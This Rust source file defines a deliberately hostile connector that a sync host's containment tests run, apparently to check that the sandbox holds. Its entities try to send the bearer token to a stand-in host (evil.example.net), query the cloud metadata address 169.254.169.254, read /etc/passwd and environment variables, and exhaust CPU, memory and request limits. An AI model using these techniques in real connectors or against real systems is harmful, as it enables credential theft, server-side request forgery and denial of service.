//! A connector that attacks its sandbox. Each entity is one attack; `read`
//! either misbehaves or returns one record whose fields say what it saw.
//! The host's containment tests (`tests/e2e/tests/hostile.rs`) drive it.

// A native build (cargo test --workspace) compiles this crate without the
// wasm exports, which leaves the connector type unused there.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

use synchost_sdk::prelude::*;

struct Hostile {
    settings: Settings,
}

fn observed(what: &str, text: String) -> Page {
    Page::new(vec![
        Record::new(what).field("observed", FieldValue::Text(text))
    ])
}

impl Connector for Hostile {
    fn describe() -> Descriptor {
        Descriptor::new("hostile", "0.0.1")
            .entities([
                "loop",
                "memory",
                "trap",
                "undeclared",
                "metadata",
                "loopback",
                "localhost",
                "echo",
                "leak",
                "big",
                "record",
                "long-id",
                "wasi",
                "gzip",
                "encoded",
                "throttle",
                "long-url",
                "headers",
                "many-calls",
                "wildcard",
                "other-secret",
                "hmac-token",
                "hmac-webhook",
                "slow",
            ])
            .hosts([
                "https://echo.example.com",
                "https://*.wild.example.com",
                "http://127.0.0.1",
                "http://localhost",
                "http://169.254.169.254",
            ])
            // The host adds `Authorization: Bearer <token>` to every request.
            .auth(AuthScheme::Bearer("token".into()))
            .capabilities(Capabilities::READ)
    }

    fn configure(settings: Settings) -> Result<Self, ConnectorError> {
        Ok(Hostile { settings })
    }

    fn schema(&self, entity: &str) -> Result<EntitySchema, ConnectorError> {
        Ok(EntitySchema::new(entity).field("observed", FieldType::Text))
    }

    fn read(&self, req: ReadRequest) -> Result<Page, ConnectorError> {
        match req.entity.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("hostile connector panics on purpose"),
            "undeclared" => http::get("https://evil.example.net/steal")
                .send()
                .map(|r| observed("undeclared", r.status.to_string())),
            "metadata" => http::get("http://169.254.169.254/latest/meta-data/")
                .send()
                .map(|r| observed("metadata", r.status.to_string())),
            "loopback" => http::get("http://127.0.0.1/")
                .send_raw()
                .map(|r| observed("loopback", r.status.to_string())),
            "localhost" => http::get("http://localhost/")
                .send_raw()
                .map(|r| observed("localhost", r.status.to_string())),
            // Sends the secret to a declared host that echoes the request back,
            // hoping to read the value in the echo.
            "echo" => {
                let resp = http::post(&format!(
                    "https://echo.example.com/echo?q={}",
                    secret("token")
                ))
                .header("Authorization", &format!("Bearer {}", secret("token")))
                .header("X-Copy", &secret("token"))
                .body(secret("token").into_bytes())
                .send()?;
                Ok(observed(
                    "echo",
                    String::from_utf8_lossy(&resp.body).into_owned(),
                ))
            }
            // Tries to carry the secret to a host it never declared.
            "leak" => http::get("https://evil.example.net/collect")
                .header("X-Stolen", &secret("token"))
                .send()
                .map(|r| observed("leak", r.status.to_string())),
            "big" => http::get("https://echo.example.com/big")
                .send()
                .map(|r| observed("big", r.body.len().to_string())),
            "record" => Ok(observed("record", "x".repeat(8 << 20))),
            // An id far past any platform's, small enough to pass as a record.
            "long-id" => Ok(Page::new(vec![Record::new(&"i".repeat(60_000))])),
            "wasi" => {
                let file = std::fs::read_to_string("/etc/passwd")
                    .map(|s| s.len().to_string())
                    .unwrap_or_else(|e| format!("error: {e}"));
                let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let socket = std::net::TcpStream::connect("127.0.0.1:80")
                    .map(|_| "connected".to_string())
                    .unwrap_or_else(|e| format!("error: {e}"));
                Ok(observed(
                    "wasi",
                    format!(
                        "file={file}; env={env:?}; socket={socket}; setting={:?}",
                        self.settings.get("probe")
                    ),
                ))
            }
            // Asks the echo for a compressed body and inflates it itself,
            // hoping the host scrubbed only the compressed bytes.
            "gzip" => {
                let path = self.settings.get("path").unwrap_or("/echo");
                let resp = http::post(&format!("https://echo.example.com{path}"))
                    .header("Accept-Encoding", "gzip")
                    .send()?;
                let gzipped = resp
                    .header("content-encoding")
                    .is_some_and(|v| v.contains("gzip"));
                let body = if gzipped {
                    let mut text = String::new();
                    std::io::Read::read_to_string(
                        &mut flate2::read::GzDecoder::new(&resp.body[..]),
                        &mut text,
                    )
                    .map_err(|e| ConnectorError::Fatal(e.to_string()))?;
                    text
                } else {
                    String::from_utf8_lossy(&resp.body).into_owned()
                };
                Ok(observed("gzip", format!("gzipped={gzipped}\n{body}")))
            }
            // A declared host that answers with the credential re-encoded:
            // base64, URL-encoded, hex, Basic's `user:pass`.
            "encoded" => {
                let resp = http::get("https://echo.example.com/encoded")
                    .header("Authorization", &secret("token"))
                    .send()?;
                Ok(observed(
                    "encoded",
                    String::from_utf8_lossy(&resp.body).into_owned(),
                ))
            }
            // A platform answering 429 with an absurd Retry-After.
            "throttle" => {
                let url = format!(
                    "https://echo.example.com/throttle?after={}",
                    self.settings
                        .get("retry_after")
                        .unwrap_or("10000000000000000000")
                );
                http::get(&url)
                    .send_raw()
                    .map(|r| observed("throttle", r.status.to_string()))
            }
            // URLs of several MiB to a host it may not reach, again and again.
            "long-url" => {
                let path = "a".repeat(4 << 20);
                let mut refused = 0;
                for _ in 0..50 {
                    if http::get(&format!("https://evil.example.net/{path}"))
                        .send_raw()
                        .is_err()
                    {
                        refused += 1;
                    }
                }
                Ok(observed("long-url", format!("refused={refused}")))
            }
            // A thousand headers of 4 KiB each to a declared host.
            "headers" => {
                let mut req = http::get("https://echo.example.com/headers");
                let value = "v".repeat(4096);
                for i in 0..1000 {
                    req = req.header(&format!("x-h{i}"), &value);
                }
                req.send_raw()
                    .map(|r| observed("headers", r.status.to_string()))
            }
            // Requests without end in one call: each is refused, but each
            // would cost the host a log entry.
            "many-calls" => {
                let mut first_other = None;
                for i in 0..30_000u32 {
                    match http::get("https://evil.example.net/x").send_raw() {
                        Err(ConnectorError::Fatal(m) | ConnectorError::InvalidInput(m))
                            if m.contains("requests") && first_other.is_none() =>
                        {
                            first_other = Some(format!("{i}: {m}"));
                            break;
                        }
                        _ => {}
                    }
                }
                Ok(observed(
                    "many-calls",
                    first_other.unwrap_or_else(|| "never stopped".into()),
                ))
            }
            // A subdomain the wildcard covers, that the job never named.
            "wildcard" => {
                let host = self.settings.get("victim").unwrap_or("victim");
                http::post(&format!("https://{host}.wild.example.com/echo"))
                    .send_raw()
                    .map(|r| observed("wildcard", String::from_utf8_lossy(&r.body).into_owned()))
            }
            // A secret that is not the auth scheme's, in a header of its own.
            "other-secret" => {
                let name = self.settings.get("other").unwrap_or("refresh");
                http::post("https://echo.example.com/echo")
                    .header("X-Other", &secret(name))
                    .send_raw()
                    .map(|r| {
                        observed(
                            "other-secret",
                            String::from_utf8_lossy(&r.body).into_owned(),
                        )
                    })
            }
            // The bearer token as an HMAC key: an oracle the connector may not have.
            "hmac-token" => Ok(observed(
                "hmac-token",
                format!(
                    "{:?}",
                    synchost_sdk::signature::hmac_sha256("token", b"x").map(|m| m.len())
                ),
            )),
            "hmac-webhook" => Ok(observed(
                "hmac-webhook",
                format!(
                    "{:?}",
                    synchost_sdk::signature::hmac_sha256("hook", b"x").map(|m| m.len())
                ),
            )),
            // A page that takes its time (`sleep_ms`, default 2 s): a run that
            // is still running when the daemon is stopped.
            "slow" => {
                let ms = self
                    .settings
                    .get("sleep_ms")
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(2000);
                std::thread::sleep(std::time::Duration::from_millis(ms));
                Ok(Page::new(Vec::new()))
            }
            other => Err(ConnectorError::NotFound(other.into())),
        }
    }
}

synchost_sdk::export_connector!(Hostile);
